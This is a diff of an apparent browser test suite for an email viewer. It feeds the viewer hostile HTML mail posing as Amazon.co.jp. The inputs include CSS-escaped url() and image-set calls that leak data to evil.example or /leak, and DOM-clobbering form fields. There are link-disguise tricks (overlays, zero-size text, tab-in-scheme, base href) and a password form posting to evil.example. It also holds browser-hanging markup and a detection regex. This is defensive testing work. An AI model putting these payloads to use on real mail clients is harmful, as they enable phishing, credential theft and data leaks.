@@ -47,6 +47,9 @@ div { background-image: image-set("https://evil.example/set.png" 1x) } b { --x: 
 <form action="https://evil.example/form" method="post"><input name="password" type="password" autofocus onfocus="parent.hit='focus'"><button formaction="https://evil.example/button">send</button></form>
 <input type="image" src="https://evil.example/input.png"><details open ontoggle="parent.hit='toggle'">x</details>
 <template><img src="https://evil.example/template.png"></template><noscript><img src="https://evil.example/noscript.png"></noscript>
+<p style="--x:u\\72l(https://evil.example/variable);background:var(--x)">v</p><p style="--x:u\\72l(/leak);background:var(--x)">own server</p>
+<style>p { --y: image\\2dset("/leak?set" 1x); background: var(--y) } @keyframes k { from { --z: u\\72l(/leak?key); background: var(--z) } } p { animation: k 1s }</style>
+<form action="https://evil.example/clobber"><input name="getAttribute"><input name="attributes"><input name="localName"></form>
 <a id="document"></a><a id="defaultView"></a><form name="body"></form><img name="getElementById">
 `
 const HOSTILE_MAIL = `From: "Amazon.co.jp" <a@evil.example>\r\nTo: b@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n${HOSTILE}`
@@ -110,11 +113,11 @@ describe('a check', () => {
     expect(await frame.locator('input, button').evaluateAll((fields) => fields.every((field) => field.hasAttribute('disabled')))).toBe(true)
     const styles = await page.locator('iframe').evaluate((element) => {
       const inner = (element as HTMLIFrameElement).contentDocument
-      const own = [...(inner?.adoptedStyleSheets ?? [])].flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText))
-      const inline = [...(inner?.querySelectorAll<HTMLElement>('[style]') ?? [])].map((styled) => styled.style.cssText)
-      return [...own, ...inline].join('\n')
+      return [...(inner?.querySelectorAll<HTMLElement>('[style]:not([data-destination])') ?? [])]
+        .map((styled) => styled.style.cssText)
+        .join('\n')
     })
-    expect(styles).not.toMatch(/evil|fixed|@import|@font-face/)
+    expect(styles).not.toMatch(/evil|leak|url|var\(|--|fixed|absolute|animation/)
   })
 
   it('could reach nothing even through a hole in our code: the policy stops script and network', async () => {
@@ -137,6 +140,71 @@ describe('a check', () => {
       }
     })
     expect(tried).toEqual({ markup: 'refused', handler: 'refused', request: 'refused', worker: 'refused' })
+  })
+})
+
+/** Each tries to hide, rewrite or cover the note that says where its link leads, or to be a link without one. */
+const NOTE_ATTACKS: Readonly<Record<string, string>> = {
+  'a layer that hides it': '<style>@layer x { [data-destination], span { display: none !important } }</style>LINK',
+  'a rule that hides what follows a link': '<style>a + * { display: none !important; font-size: 0 !important }</style>LINK',
+  'a rule that writes other words before it': '<style>a + *::before { content: "→ amazon.co.jp"; font: 700 14px system-ui }</style>LINK',
+  'a cover': '<div style="position:relative">LINK<div style="position:absolute;inset:0;background:#fff">→ amazon.co.jp</div></div>',
+  'a cover by variable': '<div style="--p:fixed;position:var(--p);inset:0;background:#fff">x</div>LINK',
+  'a negative margin': '<div>LINK</div><div style="margin-top:-80px;background:#fff;height:200px">→ amazon.co.jp</div>',
+  'a narrow, clipping parent': '<div style="overflow:hidden;width:20px;height:4px;white-space:nowrap">LINK</div>',
+  'letters of no size': '<div style="font-size:0;line-height:0">LINK</div>',
+  'the other direction': '<bdo dir="rtl">LINK</bdo>',
+  'cells laid over each other':
+    '<table><tr><td rowspan="2">LINK</td></tr><tr><td colspan="2" style="background:#fff">→ amazon.co.jp</td></tr></table>',
+  'a tab inside the scheme': '<a href="ht&#9;tps://evil.example/a">press</a>',
+  'an address without a scheme': '<a href="//evil.example/a">press</a>',
+  'a base for a relative address': '<base href="https://evil.example/"><a href="/a">press</a>',
+  'a control character before it': '<a href="&#1;https://evil.example/a">press</a>',
+  'a very long address': `<a href="https://evil.example/${'a'.repeat(9_000)}">press</a>`,
+  'a button of a form': '<form action="https://evil.example/f"><input type="password" name="p"><button>press</button></form>',
+  'a phone number with another one shown': '<a href="tel:+810312345678">0120-000-000</a>',
+  'a note of the sender’s own':
+    '<a href="https://evil.example/a" data-destination="official" data-link="https://www.amazon.co.jp/">press</a>',
+}
+
+describe('the note behind a link, in the message as it looked', () => {
+  it.each(Object.entries(NOTE_ATTACKS))('is there, whole and on top, in spite of %s', async (name, attack) => {
+    const page = await served.open({ serviceWorkers: 'block' })
+    const html = `<p>Amazonのお支払いに失敗しました。</p>${attack.replace('LINK', '<a href="https://evil.example/a">press</a>')}`
+    await checkFiles(page, fileOf('attack.eml', HOSTILE_MAIL.replace(HOSTILE, html)))
+    await looked(page)
+    const note = page.frameLocator('iframe').locator('[data-destination]').first()
+    await note.waitFor()
+    expect(await note.innerText()).toMatch(name.includes('phone') ? /^→ \+810312345678/ : /^→ evil\.example/)
+    const seen = await note.evaluate((element) => {
+      const { left, top, width, height } = element.getBoundingClientRect()
+      const { display, fontSize, direction } = getComputedStyle(element)
+      const on = (x: number, y: number) => element.ownerDocument.elementFromPoint(left + width * x, top + height * y) === element
+      const before = getComputedStyle(element, '::before').content
+      return {
+        display,
+        fontSize,
+        direction,
+        before,
+        isLarge: width > 60 && height > 12,
+        isOnTop: on(0.1, 0.5) && on(0.5, 0.5) && on(0.9, 0.5),
+      }
+    })
+    expect(seen).toEqual({ display: 'inline-block', fontSize: '14px', direction: 'ltr', before: 'none', isLarge: true, isOnTop: true })
+  })
+})
+
+describe('a message made to keep the browser busy', () => {
+  it.each([
+    ['tables inside tables', `${'<table><tr><td>'.repeat(20_000)}<p>x</p>`],
+    ['styles', '<b style=top:0>x</b>'.repeat(25_000)],
+    ['selectors', `<style>${'*:has(*) * { color: red }'.repeat(10_000)}</style>${'<b>x</b>'.repeat(20_000)}`],
+    ['links', '<a href=https://evil.example/>x</a>'.repeat(20_000)],
+  ])('of %s is shown as far as it can be, and the page can be used meanwhile', async (_, html) => {
+    const page = await served.open({ serviceWorkers: 'block' })
+    await checkFiles(page, fileOf('busy.eml', HOSTILE_MAIL.replace(HOSTILE, html)))
+    await looked(page)
+    expect(await page.locator('.message').innerText()).toContain('初めの部分だけ')
   })
 })
 
